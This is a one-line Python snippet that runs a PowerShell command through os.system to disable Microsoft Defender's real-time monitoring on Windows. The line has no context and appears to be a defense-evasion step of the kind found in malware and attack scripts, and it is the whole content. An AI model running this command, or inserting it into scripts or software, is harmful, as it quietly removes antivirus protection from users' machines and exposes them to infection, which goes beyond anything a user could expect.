os.system("powershell Set-MpPreference -DisableRealtimeMonitoring $true")
